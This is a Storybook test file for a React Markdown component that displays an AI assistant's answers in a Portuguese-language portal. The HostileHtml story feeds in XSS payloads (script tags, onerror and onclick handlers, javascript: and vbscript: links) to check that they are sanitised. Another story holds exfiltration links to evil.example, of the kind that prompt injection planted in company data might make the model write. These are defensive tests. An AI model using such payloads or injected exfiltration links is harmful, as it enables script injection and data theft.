import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, fn } from 'storybook/test';
import { Markdown } from './Markdown';

const meta = {
  title: 'Components/Markdown',
  component: Markdown,
  parameters: { layout: 'padded' },
  args: { onNavigate: fn(), markdown: '' },
} satisfies Meta<typeof Markdown>;
export default meta;
type Story = StoryObj<typeof meta>;

/** Every heading is an h2 (the page's outline holds), sized by its markdown level. */
export const Headings: Story = {
  args: {
    markdown: `# Resumo\n\nTexto com **negrito**, *itálico* e ~~riscado~~.\n\n### Detalhes\n\n> Citação da reunião\n\n---\n\n3. terceiro\n4. quarto`,
  },
  play: async ({ canvas, canvasElement }) => {
    const headings = canvas.getAllByRole('heading');
    await expect(headings.map((h) => [h.tagName, h.dataset['level']])).toEqual([
      ['H2', '1'],
      ['H2', '3'],
    ]);
    await expect(canvas.getByText('negrito').tagName).toBe('STRONG');
    await expect(canvas.getByText('itálico').tagName).toBe('EM');
    await expect(canvas.getByText('riscado').tagName).toBe('DEL');
    await expect(canvasElement.querySelector('blockquote')).toHaveTextContent('Citação da reunião');
    await expect(canvasElement.querySelector('ol')).toHaveAttribute('start', '3');
    const [first, second] = canvas.getAllByRole('heading');
    if (!first || !second) throw new Error('no headings');
    await expect(parseFloat(getComputedStyle(first).fontSize)).toBeGreaterThan(
      parseFloat(getComputedStyle(second).fontSize),
    );
  },
};

/** Raw HTML inside an answer is sanitized like the rest: nothing runs, nothing is styled. */
export const HostileHtml: Story = {
  args: {
    markdown: `Resposta <script>window.__markdownXss = 'script'</script>
<img src="x" onerror="window.__markdownXss = 'img'">
<p onclick="window.__markdownXss = 'click'" style="color: red">Clique aqui</p>
<a href="javascript:window.__markdownXss = 'link'">link perigoso</a>
<iframe src="https://example.com"></iframe>
[outro](vbscript:msgbox(1)) e <a href="/\\evil.example.com">caminho</a>`,
  },
  play: async ({ canvas, canvasElement, userEvent }) => {
    await expect(canvasElement.querySelector('script, img, iframe, [onclick], [style]')).toBeNull();
    await expect(canvas.queryByRole('link')).toBeNull();
    await userEvent.click(canvas.getByText('Clique aqui'));
    await userEvent.click(canvas.getByText('link perigoso'));
    await expect((window as { __markdownXss?: string }).__markdownXss).toBeUndefined();
  },
};

/** A portal path opens through the router; a click with a modifier is left to the browser. */
export const PortalLink: Story = {
  args: { markdown: 'Veja o [quadro de tarefas](/admin/view/b1/tasks).' },
  play: async ({ canvas, args, userEvent }) => {
    const link = canvas.getByRole('link', { name: 'quadro de tarefas' });
    await userEvent.click(link);
    await expect(args.onNavigate).toHaveBeenCalledWith('/admin/view/b1/tasks');
    link.addEventListener('click', (event) => event.preventDefault(), { once: true });
    await userEvent.keyboard('{Control>}');
    await userEvent.click(link);
    await userEvent.keyboard('{/Control}');
    await expect(args.onNavigate).toHaveBeenCalledTimes(1);
  },
};

/**
 * Text planted in company data may lead the model to write a link to another host that carries
 * what it read: only the portal's own paths stay links, any other address is plain text.
 */
export const LinksToOtherHostsAreText: Story = {
  args: {
    markdown:
      'Para detalhes, [clique](https://evil.example/?e=a@b.com), veja ' +
      `[a ata](${window.location.origin}/dashboard/business/meetings/7) ou ` +
      'https://evil.example/auto?e=c@d.com, ou a [reunião](/dashboard/business/meetings/123).',
  },
  play: async ({ canvas, canvasElement, args, userEvent }) => {
    await expect(canvasElement.querySelector('a[href*="evil.example"]')).toBeNull();
    await expect(canvas.getByText('clique').closest('a')).toBeNull();
    await expect(canvas.getAllByRole('link').map((a) => a.getAttribute('href'))).toEqual([
      '/dashboard/business/meetings/7',
      '/dashboard/business/meetings/123',
    ]);
    await userEvent.click(canvas.getByRole('link', { name: 'reunião' }));
    await expect(args.onNavigate).toHaveBeenCalledWith('/dashboard/business/meetings/123');
  },
};

/**
 * docs/assistant.md's suggestion links (`?pergunta=`) are buttons that ask their question, by
 * click or keyboard; without `onAsk` they are only text, and other links are unchanged.
 */
export const Suggestions: Story = {
  args: {
    onAsk: fn(),
    markdown:
      '_Entendi: Margem líquida · Sorriso Pleno Odontologia · preciso de um detalhe_\n\nDe qual período?\n\n' +
      '- [Do mês (out/2026)](?pergunta=Margem%20l%C3%ADquida%20da%20Sorriso%20Pleno%20Odontologia%20em%20out%2F2026)\n' +
      '- [Do ano até agora (jan/2026 a out/2026)](?pergunta=Margem%20l%C3%ADquida%20da%20Sorriso%20Pleno%20Odontologia%20de%20jan%2F2026%20a%20out%2F2026)',
  },
  play: async ({ canvas, args, userEvent }) => {
    const month = canvas.getByRole('button', { name: 'Do mês (out/2026)' });
    await userEvent.click(month);
    await expect(args.onAsk).toHaveBeenCalledWith(
      'Margem líquida da Sorriso Pleno Odontologia em out/2026',
    );
    canvas.getByRole('button', { name: /Do ano até agora/ }).focus();
    await userEvent.keyboard('{Enter}');
    await expect(args.onAsk).toHaveBeenLastCalledWith(
      'Margem líquida da Sorriso Pleno Odontologia de jan/2026 a out/2026',
    );
    await expect(canvas.queryByRole('link')).toBeNull();
  },
};

/** Without a handler a suggestion is plain text: nothing to press that would do nothing. */
export const SuggestionsWithoutHandler: Story = {
  args: {
    markdown: 'Talvez: [Quantas empresas existem?](?pergunta=Quantas%20empresas%20existem%3F)',
  },
  play: async ({ canvas }) => {
    await expect(canvas.queryByRole('button')).toBeNull();
    await expect(canvas.getByText('Quantas empresas existem?').tagName).toBe('SPAN');
  },
};
